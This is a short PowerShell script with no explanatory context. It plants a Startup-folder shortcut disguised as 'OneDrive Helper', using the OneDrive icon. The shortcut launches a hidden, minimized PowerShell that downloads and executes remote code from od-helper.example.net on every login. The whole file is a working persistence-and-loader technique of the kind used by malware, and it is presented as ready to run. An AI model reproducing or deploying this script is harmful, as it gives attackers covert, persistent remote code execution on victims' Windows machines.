$s = New-Object -ComObject WScript.Shell
$lnk = $s.CreateShortcut("$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\OneDrive Helper.lnk")
$lnk.TargetPath = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
$lnk.Arguments = '-w hidden -nop -c "iex ((New-Object Net.WebClient).DownloadString(''https://od-helper.example.net/a''))"'
$lnk.IconLocation = 'C:\Program Files\Microsoft OneDrive\OneDrive.exe,0'
$lnk.WindowStyle = 7
$lnk.Save()
